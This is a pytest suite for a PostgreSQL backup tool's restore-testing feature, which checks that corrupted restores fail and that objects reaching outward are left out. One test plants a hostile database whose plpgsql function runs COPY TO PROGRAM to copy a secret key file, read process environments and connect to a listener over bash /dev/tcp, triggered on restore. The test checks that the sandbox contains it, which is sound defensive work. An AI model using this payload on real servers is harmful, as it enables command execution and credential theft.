"""A restore test proves what comes back the same, calls different what does not, and takes nothing else for a pass."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from holdfast.jobs import proofs
from holdfast.jobs.catalog import rebuild
from holdfast.jobs.restore_test import NotProvenError, Result, require_pass, run_one
from holdfast.ledger.ledger import Ledger
from holdfast.model.errors import CouldNotTestError
from holdfast.model.testing import Check, RestoreTesting
from holdfast.postgres import confined, tools
from holdfast.postgres.conninfo import Conninfo
from holdfast.postgres.scratch import Cluster
from holdfast.streams import age_keys
from support import torture
from support.postgres import execute, needs_extension
from support.restoring import create, drop, take
from support.world import Recorder, World, world

PLAN = RestoreTesting(jobs=1)
SECRET = "AGE-SECRET-KEY-OF-THE-TEST"


@pytest.fixture
def shop(cluster: Cluster, tmp_path: Path) -> Iterator[World]:
    """Give a world whose target is a database with a little of everything, and its backup's place in two stores."""
    create(
        cluster,
        "proving",
        "CREATE TABLE merchants (id int PRIMARY KEY, name text NOT NULL, at timestamptz DEFAULT now())",
        "INSERT INTO merchants SELECT g, md5(g::text) FROM generate_series(1, 500) g",
        "CREATE TABLE orders (id int PRIMARY KEY, merchant int REFERENCES merchants, note text)",
        "INSERT INTO orders SELECT g, g % 500 + 1, repeat('x', g % 50) FROM generate_series(1, 2000) g",
        "CREATE SEQUENCE numbers START 4711",
        "SELECT lo_from_bytea(77, '\\x00ff')",
    )
    with world(tmp_path, cluster.conninfo.argv_dsn(), databases=("proving",), stores=2) as made:
        yield made
    drop(cluster, "proving")


def _meddler(folder: Path, *statements: str) -> Recorder:
    """Give a reporter that changes the restored database before it is compared."""
    left = [statements]

    class Meddler(Recorder):
        def doing(self, what: str) -> None:
            if what == "contents" and left:  # the first phase of the comparison
                [home] = (each for each in folder.iterdir() if (each / "way").exists())
                params = {"host": f"{home}/way", "user": "postgres", "dbname": "proving"}
                execute(Conninfo(params=params, isolated=True), *left.pop())

    return Meddler()


def put_to_test(made: World, plan: RestoreTesting = PLAN, **target_keys: Any) -> Result:  # noqa: ANN401 - a target's keys
    """Take a backup and test it."""
    opened = take(made, **target_keys)
    return run_one(made.services, opened, plan, made.stop)


def test_a_backup_is_proven_and_everybody_who_can_read_the_store_learns_it(
    shop: World, tmp_path: Path, open_dir: Path
) -> None:
    checks = (
        Check(name="merchants", sql="SELECT count(*) FROM merchants", equals="500"),
        Check(name="fresh", sql="SELECT max(at) FROM merchants", max_age=3600.0),
        Check(name="elsewhere", sql="SELECT nonsense", database="another", min=Decimal(1)),
    )
    done = put_to_test(shop, replace(PLAN, checks=checks, scratch_dir=open_dir))
    require_pass(done)
    proof = done.proof
    assert proof.tested is not None
    assert (proof.level, proof.tested.outcome, proof.tested.isolation) == ("proven", "passed", "isolated")
    assert (proof.tested.tables, proof.tested.rows, proof.tested.checks) == (2, 2500, 2)
    assert (proof.tested.large_objects, proof.tested.sequences) == (1, 1)
    assert done.stored_in == ("a", "b")
    row = shop.services.ledger.backup(proof.backup_id)
    assert row is not None
    assert row.proof == "proven"
    assert list(open_dir.iterdir()) == []
    for folder in (
        tmp_path / "store-a",
        tmp_path / "store-b",
    ):  # in the clear there is no name of the database
        files = [
            path for path in folder.rglob("*") if path.is_file() and path.name.startswith(("proof", "detail"))
        ]
        assert len(files) == 3
        assert not any(b"merchants" in path.read_bytes() for path in files)
    keys = replace(shop.keys, identities=(), signing=None)  # a host that can open nothing
    with Ledger.open(tmp_path / "elsewhere" / "ledger.sqlite", now=shop.services.clock.now()) as ledger:
        writer = replace(shop.services, ledger=ledger, keys=keys)
        rebuild(writer)
        known = ledger.backup(proof.backup_id)
        assert known is not None
        assert known.proof == "proven"
        shown = proofs.show(writer, known)
        assert shown.detail is None
        assert "no identity" in str(shown.without_detail)
    own = proofs.show(shop.services, row)
    assert own.detail == done.detail
    assert json.loads(json.dumps(own.proof.tested.outcome if own.proof.tested else None)) == "passed"


@pytest.mark.extended
def test_a_check_that_does_not_hold_fails_the_test(shop: World) -> None:
    checks = (
        Check(name="many", sql="SELECT count(*) FROM merchants", min=Decimal(501)),
        Check(name="writes", sql="DELETE FROM orders RETURNING id", not_empty=True),
        Check(name="wrong", sql="SELECT no_such_column FROM orders", not_empty=True),
    )
    done = put_to_test(shop, replace(PLAN, checks=checks))
    assert done.proof.tested is not None
    assert (done.proof.level, done.proof.tested.why, done.proof.tested.checks_failed) == (
        "verified",
        ("checks",),
        3,
    )
    problems = {check.name: check.problem or "" for check in done.detail.databases[0].checks}
    assert problems["many"] == "its answer is below 501"
    assert "read-only" in problems["writes"]
    assert "no_such_column" in problems["wrong"]
    with pytest.raises(NotProvenError, match="a check of the owner failed"):
        require_pass(done)
    [run] = shop.services.ledger.runs("shop", "restore_test")
    assert (run.status, run.error_code) == ("failed", "restore_test")


_CORRUPTIONS = {
    "one row changed": "UPDATE orders SET note = 'y' WHERE id = 7",
    "one row missing": "DELETE FROM orders WHERE id = 7",
    "one row twice": "ALTER TABLE orders DROP CONSTRAINT orders_pkey; INSERT INTO orders SELECT * FROM orders WHERE id = 7",
    "one index missing": "ALTER TABLE orders DROP CONSTRAINT orders_pkey",
    "one privilege too many": "GRANT SELECT ON orders TO PUBLIC",
    "one sequence off": "SELECT nextval('numbers')",
    "one large object changed": "SELECT lo_put(77, 0, '\\x01')",
}


@pytest.mark.parametrize(
    "what",
    [
        pytest.param(what, marks=[] if what == "one row changed" else pytest.mark.extended)
        for what in _CORRUPTIONS
    ],
)
def test_what_was_restored_and_is_not_the_same_is_called_failed(
    shop: World, what: str, open_dir: Path
) -> None:
    services = replace(shop.services, reporter=_meddler(open_dir, *_CORRUPTIONS[what].split("; ")))
    done = put_to_test(replace(shop, services=services), replace(PLAN, scratch_dir=open_dir))
    assert done.proof.tested is not None
    assert done.proof.tested.outcome == "failed"
    assert done.proof.tested.why == ("differences",)
    row = shop.services.ledger.backup(done.proof.backup_id)
    assert row is not None
    assert row.proof == "verified"


@pytest.mark.fault("test.unable")
def test_without_the_right_identity_nothing_is_tested(shop: World) -> None:
    opened = take(shop)
    for identities in ((), (age_keys.generate(),)):
        services = replace(shop.services, keys=replace(shop.keys, identities=identities))
        with pytest.raises(CouldNotTestError) as caught:
            run_one(services, opened, PLAN, shop.stop)
        assert (caught.value.code, caught.value.exit_code) == ("could_not_test", 24)
    row = shop.services.ledger.backup(opened.backup.id)
    assert row is not None
    assert row.proof == "stored"


@pytest.mark.fault("test.unable")
def test_without_server_programs_of_its_major_nothing_is_tested(
    shop: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened = take(shop)
    monkeypatch.setattr(tools, "find_servers", lambda _extra=(): ())
    with pytest.raises(CouldNotTestError, match="server programs") as caught:
        run_one(shop.services, opened, PLAN, shop.stop)
    assert "postgresql-" in str(caught.value.hint)
    monkeypatch.undo()
    monkeypatch.setattr(shutil, "disk_usage", lambda _path: type("Usage", (), {"free": 1000}))
    with pytest.raises(CouldNotTestError, match="1,000 bytes free"):
        run_one(shop.services, opened, PLAN, shop.stop)


@pytest.fixture
def listener() -> Iterator[tuple[int, list[object]]]:
    """Give a port of this host, and who has come there."""
    came: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    one, address = server.accept()
                    one.close()
                    came.append(address)
                except OSError:
                    return

        threading.Thread(target=accept, daemon=True).start()
        yield server.getsockname()[1], came


@pytest.mark.fault("attack.code")
def test_hostile_code_runs_when_it_is_restored_and_reaches_nothing(
    cluster: Cluster, tmp_path: Path, open_dir: Path, listener: tuple[int, list[object]]
) -> None:
    port, came = listener
    loot = open_dir / "loot"
    loot.mkdir()
    loot.chmod(0o777)
    identity = loot / "identity.txt"
    identity.write_text(SECRET)
    identity.chmod(0o644)
    program = (
        f"cp {identity} {loot}/taken; touch {loot}/was-here; cat /proc/*/environ > {loot}/environ;"
        f" bash -c 'echo hello > /dev/tcp/127.0.0.1/{port}'; true"
    ).replace("'", "''")
    steal = (
        "CREATE FUNCTION steal() RETURNS SETOF text LANGUAGE plpgsql AS $$ BEGIN"
        f" EXECUTE $x$ COPY (SELECT 1) TO PROGRAM '{program}' $x$; CREATE TABLE public.said (line text);"
        f" EXECUTE $x$ COPY public.said FROM PROGRAM 'cat {identity}; true' $x$;"
        " RETURN QUERY SELECT line FROM public.said; DROP TABLE public.said; END $$"
    )
    create(
        cluster,
        "hostile",
        "CREATE EXTENSION IF NOT EXISTS plpgsql",
        steal,
        "CREATE FUNCTION guard() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.steal(); END $$",
        "CREATE FUNCTION is_good(int) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN PERFORM public.steal(); RETURN true; END $$",
        "CREATE TABLE bait (id int)",
        "INSERT INTO bait VALUES (1)",
        "ALTER TABLE bait ADD CONSTRAINT good CHECK (is_good(id))",
        "CREATE EVENT TRIGGER guard ON ddl_command_end EXECUTE FUNCTION guard()",
    )
    for name in ("taken", "was-here", "environ"):  # what it did when it was made
        (loot / name).unlink(missing_ok=True)
    came.clear()
    try:
        with world(tmp_path, cluster.conninfo.argv_dsn(), databases=("hostile",)) as made:
            services = replace(made.services, keys=replace(made.keys, files=(identity,)))
            done = run_one(services, take(made), PLAN, made.stop)
    finally:
        drop(cluster, "hostile")
    assert done.proof.tested is not None
    assert done.proof.tested.outcome == "passed", list(done.detail.databases)
    assert sorted(path.name for path in loot.iterdir()) == ["identity.txt"]
    assert came == []
    assert [item.name for item in done.detail.databases[0].left_out] == ["guard"]


@pytest.mark.extended
def test_the_torture_database_is_proven(cluster: Cluster, tmp_path: Path) -> None:
    torture.load(cluster.conninfo, "tortured_proof", torture.MORE)
    try:
        with world(tmp_path, cluster.conninfo.argv_dsn(), databases=("tortured_proof",)) as made:
            done = put_to_test(made, replace(PLAN, jobs=2))
        require_pass(done)
        assert done.proof.tested is not None
        assert done.proof.tested.tables > 30
    finally:
        drop(cluster, "tortured_proof")


@pytest.mark.extended
def test_what_would_reach_out_stays_out_and_is_named(cluster: Cluster, tmp_path: Path) -> None:
    wrapper = needs_extension(cluster, "postgres_fdw")
    create(
        cluster,
        "outward",
        f"CREATE EXTENSION {wrapper}",
        "CREATE SERVER far FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '192.0.2.1')",
        "CREATE FOREIGN TABLE far_rows (x int) SERVER far",
        "CREATE VIEW seen AS SELECT * FROM far_rows",
        "CREATE MATERIALIZED VIEW kept AS SELECT * FROM seen WITH NO DATA",
        "UPDATE pg_class SET relispopulated = true WHERE relname = 'kept'",
        "CREATE TABLE t AS SELECT 1 AS x",
        "CREATE MATERIALIZED VIEW near AS SELECT * FROM t",
        "CREATE SUBSCRIPTION sub CONNECTION 'host=192.0.2.1' PUBLICATION p WITH (connect = false)",
    )
    try:
        with world(tmp_path, cluster.conninfo.argv_dsn(), databases=("outward",), fingerprint="none") as made:
            done = put_to_test(made)
        require_pass(done)
        named = {(item.kind, item.name) for item in done.detail.databases[0].left_out}
        assert named == {("materialized view data", "public.kept"), ("subscription", "sub")}
    finally:
        where = cluster.conninfo.with_database("outward")
        execute(where, "ALTER SUBSCRIPTION sub SET (slot_name = NONE)", "DROP SUBSCRIPTION sub")
        drop(cluster, "outward")


@pytest.mark.fault("full.spool")
@pytest.mark.extended
@pytest.mark.skipif(os.geteuid() != 0, reason="mounts a small file system")
def test_a_disk_that_fills_up_meanwhile_is_not_the_backups_fault(
    shop: World, cluster: Cluster, open_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    where = cluster.conninfo.with_database("proving")
    execute(
        where, "CREATE TABLE big AS SELECT repeat(md5(g::text), 30) AS x FROM generate_series(1, 60000) g"
    )
    small = open_dir / "small"
    small.mkdir()
    subprocess.run(["/usr/bin/mount", "-t", "tmpfs", "-o", "size=80m,mode=1777", "tmpfs", small], check=True)
    try:
        monkeypatch.setattr(confined, "require_room", lambda _place, _needed: None)
        with pytest.raises(CouldNotTestError, match="No space left on device"):
            put_to_test(shop, replace(PLAN, scratch_dir=small))
    finally:
        subprocess.run(["/usr/bin/umount", small], check=True)


@pytest.mark.extended
def test_a_missing_extension_is_named_with_what_to_install_and_left_out_only_by_config(
    cluster: Cluster, tmp_path: Path, open_dir: Path
) -> None:
    extension = needs_extension(cluster, "hstore")
    programs, share = _without(cluster, extension, open_dir)
    assert not (share / "extension" / "hstore.control").exists()
    create(
        cluster,
        "extended",
        "CREATE EXTENSION hstore",
        "CREATE TABLE h (x hstore)",
        "CREATE TABLE t AS SELECT 1 AS x",
    )
    plan = replace(PLAN, server_bin_dirs=(programs,))
    try:
        with world(tmp_path, cluster.conninfo.argv_dsn(), databases=("extended",)) as made:
            with pytest.raises(CouldNotTestError, match=r"extension hstore$") as caught:
                put_to_test(made, plan)
            assert "postgresql-contrib" in str(caught.value.hint)
            done = put_to_test(made, replace(plan, without_extensions=("hstore",)))
        require_pass(done)
        left = {(item.kind, item.name) for item in done.detail.databases[0].left_out}
        assert ("extension", "hstore") in left
        assert ("table", "public.h") in left
    finally:
        drop(cluster, "extended")


@pytest.mark.extended
def test_the_other_databases_are_tested_where_one_cannot_be(
    cluster: Cluster, tmp_path: Path, open_dir: Path
) -> None:
    programs, _ = _without(cluster, needs_extension(cluster, "hstore"), open_dir)
    plan = replace(PLAN, server_bin_dirs=(programs,), scratch_dir=open_dir)
    names = {"extended": "EXTENSION hstore", "proving": "TABLE merchants AS SELECT 1", "second": "TABLE t ()"}
    for name, what in names.items():
        create(cluster, name, f"CREATE {what}")
    try:
        with world(tmp_path, cluster.conninfo.argv_dsn(), databases=tuple(names)) as made:
            with pytest.raises(CouldNotTestError, match=r"extension hstore; the rest .* \(2 of 3"):
                put_to_test(made, plan)
            meddled = replace(made.services, reporter=_meddler(open_dir, "DELETE FROM merchants"))
            done = put_to_test(replace(made, services=meddled), plan)
        assert done.proof.tested is not None
        assert (done.proof.tested.why, done.proof.tested.whole) == (("differences",), False)
        assert [each.name for each in done.detail.databases] == ["proving", "second"]
        assert any("'extended' could not be tested" in note for note in done.detail.notes)
    finally:
        for name in names:
            drop(cluster, name)


def _without(cluster: Cluster, extension: str, folder: Path) -> tuple[Path, Path]:
    """Copy the installation, without an extension, to where the server's user can run it."""
    copy = folder / "programs"
    share = Path(subprocess.check_output([cluster.bin_dir / "pg_config", "--sharedir"], text=True).strip())
    if share.is_relative_to("/usr/share"):  # Debian's: relative to the programs it is found in the same way
        programs = copy / cluster.bin_dir.relative_to("/")
        there = copy / share.relative_to("/")
        shutil.copytree(cluster.bin_dir.parent, programs.parent, symlinks=True)
        shutil.copytree(share, there, symlinks=True)
    else:
        shutil.copytree(cluster.bin_dir.parent, copy, symlinks=True)
        programs, there = copy / "bin", copy / share.relative_to(cluster.bin_dir.parent)
    for control in (there / "extension").glob(f"{extension}*"):
        control.unlink()
    return programs, there
